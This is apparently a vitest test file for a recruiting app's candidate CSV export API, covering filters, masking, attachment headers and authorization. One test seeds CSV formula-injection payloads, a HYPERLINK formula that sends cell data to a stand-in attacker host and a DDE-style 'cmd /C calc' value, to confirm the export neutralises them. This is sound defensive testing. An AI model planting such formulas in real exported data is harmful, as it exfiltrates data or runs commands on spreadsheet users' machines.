import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { CSV_COLUMNS } from '../../electron/api/candidates-csv';
import { autoMapHeaders } from '../../renderer/features/import-export/csv-import';
import { insertApplication } from '../../electron/db/application-repository';
import { insertCandidate } from '../../electron/db/candidate-repository';
import { makeApplicationRecord, makeCandidateRecord } from '../helpers/candidate-factory';
import { type TestApi, startTestApi } from '../helpers/test-api';

const JOB_ID = '550e8400-e29b-41d4-a716-446655440000';
const OTHER_JOB_ID = '660e8400-e29b-41d4-a716-446655440001';
const COUNT = 1234;

function candidateId(i: number): string {
  return `00000000-0000-4000-8000-${String(i).padStart(12, '0')}`;
}

describe('GET /api/local/export.csv', () => {
  let api: TestApi;
  beforeAll(async () => {
    api = await startTestApi();
    const { db } = api.database;
    db.transaction(() => {
      for (let i = 1; i <= COUNT; i++) {
        const at = new Date(Date.UTC(2026, 0, 1, 0, 0, i)).toISOString();
        insertCandidate(
          db,
          makeCandidateRecord({
            id: candidateId(i),
            full_name: i % 100 === 0 ? `Export Hundred ${i}` : `Export Person ${i}`,
            email: `person${i}@example.com`,
            phone_number: '+91 90000 00000',
            talent_pool_status: i === 7 ? 'masked' : 'revealed',
            created_at: at,
            updated_at: at,
          }),
        );
        if (i % 3 === 0) insertApplication(db, makeApplicationRecord(candidateId(i), { job_id: JOB_ID, status: i === 9 ? 'Interview' : 'Applied', notes: i === 9 ? '=2+2 call back' : null }));
        if (i % 9 === 0) insertApplication(db, makeApplicationRecord(candidateId(i), { job_id: OTHER_JOB_ID, status: 'Rejected' }));
      }
    })();
  });
  afterAll(async () => {
    await api.close();
  });

  const exportCsv = async (query = '') => {
    const response = await fetch(`${api.url}/api/local/export.csv${query}`, { headers: { authorization: `Bearer ${api.token}` } });
    const bytes = Buffer.from(await response.arrayBuffer());
    return { response, bytes, rows: Papa.parse<string[]>(bytes.toString('utf8').replace(/^\ufeff/, ''), { skipEmptyLines: true }).data };
  };

  it('is every candidate, newest first, past any page size, as an attachment Excel reads as UTF-8', async () => {
    const { response, bytes, rows } = await exportCsv();
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(response.headers.get('content-disposition')).toMatch(/^attachment; filename="candidates-\d{4}-\d{2}-\d{2}\.csv"$/);
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(rows[0]).toEqual([...CSV_COLUMNS]);
    expect(rows).toHaveLength(COUNT + 1);
    expect(rows[1]![0]).toBe(candidateId(COUNT));
    expect(rows[COUNT]![0]).toBe(candidateId(1));
    expect(new Set(rows.slice(1).map((row) => row[0])).size).toBe(COUNT);
  });

  it('shows a masked candidate masked, as the API does', async () => {
    const { rows } = await exportCsv();
    const masked = rows.find((row) => row[0] === candidateId(7))!;
    expect(masked[CSV_COLUMNS.indexOf('email')]).toBe('');
    expect(masked[CSV_COLUMNS.indexOf('phone_number')]).toBe('');
    expect(masked[CSV_COLUMNS.indexOf('talent_pool_status')]).toBe('masked');
  });

  it('applies the list filters: search and job', async () => {
    const searched = await exportCsv('?search=hundred');
    expect(searched.rows.slice(1).map((row) => row[1])).toEqual(
      Array.from({ length: 12 }, (_, k) => `Export Hundred ${(12 - k) * 100}`),
    );
    const byJob = await exportCsv(`?job_id=${JOB_ID}`);
    expect(byJob.rows).toHaveLength(Math.floor(COUNT / 3) + 1);
    // A filtered file says so in its name, so it is not taken for the whole list.
    for (const filtered of [searched, byJob]) {
      expect(filtered.response.headers.get('content-disposition')).toMatch(/^attachment; filename="candidates-\d{4}-\d{2}-\d{2}-filtered\.csv"$/);
    }
  });

  it("filtered by job, adds each candidate's application to that job, under names the workspace's import maps back", async () => {
    const { rows } = await exportCsv(`?job_id=${JOB_ID}`);
    const extra = ['application_job_id', 'application_status', 'application_status_date', 'application_notes'];
    expect(rows[0]).toEqual([...CSV_COLUMNS, ...extra]);
    const nine = rows.find((row) => row[0] === candidateId(9))!;
    expect(nine.slice(CSV_COLUMNS.length)).toEqual([JOB_ID, 'Interview', '2026-11-01T09:00:00.000Z', "'=2+2 call back"]);
    const eighteen = rows.find((row) => row[0] === candidateId(18))!;
    expect(eighteen.slice(CSV_COLUMNS.length)).toEqual([JOB_ID, 'Applied', '2026-11-01T09:00:00.000Z', '']);
    expect(rows.every((row) => row.length === CSV_COLUMNS.length + extra.length)).toBe(true);
    expect(autoMapHeaders(rows[0]!).slice(CSV_COLUMNS.length)).toEqual(['application.job_id', 'application.status', null, 'application.notes']);

    for (const unfiltered of [await exportCsv(), await exportCsv('?search=hundred')]) expect(unfiltered.rows[0]).toEqual([...CSV_COLUMNS]);
  });

  // After the tests that count rows: it adds a candidate they do not expect.
  it('guards cells a spreadsheet app would run as formulas; the API\'s own CSV keeps them exactly', async () => {
    const hostile = {
      id: candidateId(COUNT + 1),
      full_name: '=HYPERLINK("http://evil.example/?"&A1,"Open CV")',
      current_company: '@SUM(1+1)*cmd|\' /C calc\'!A0',
      phone_number: '+91 98765 43210',
      location: '-',
    };
    const at = new Date(Date.UTC(2027, 0, 1)).toISOString();
    insertCandidate(api.database.db, makeCandidateRecord({ ...hostile, talent_pool_status: 'revealed', created_at: at, updated_at: at }));
    const column = (name: (typeof CSV_COLUMNS)[number]) => CSV_COLUMNS.indexOf(name);

    const { rows } = await exportCsv('?search=evil.example');
    expect(rows).toHaveLength(2);
    expect(rows[1]![column('full_name')]).toBe(`'${hostile.full_name}`);
    expect(rows[1]![column('current_company')]).toBe(`'${hostile.current_company}`);
    expect(rows[1]![column('phone_number')]).toBe(hostile.phone_number);
    expect(rows[1]![column('location')]).toBe('-');

    const apiCsv = await api.call('GET', '/api/v1/candidates?format=csv&search=evil.example');
    const apiRows = Papa.parse<string[]>(apiCsv.text, { skipEmptyLines: true }).data;
    expect(apiRows[1]![column('full_name')]).toBe(hostile.full_name);
    expect(apiRows[1]![column('current_company')]).toBe(hostile.current_company);
  });

  it('refuses a bad filter in the envelope, and answers 401 without the token', async () => {
    const bad = await api.call('GET', '/api/local/export.csv?job_id=nope');
    expect(bad.status).toBe(400);
    expect(bad.json.error.details[0].path).toBe('job_id');
    expect((await api.call('GET', '/api/local/export.csv', { headers: { authorization: '' } })).status).toBe(401);
  });
});
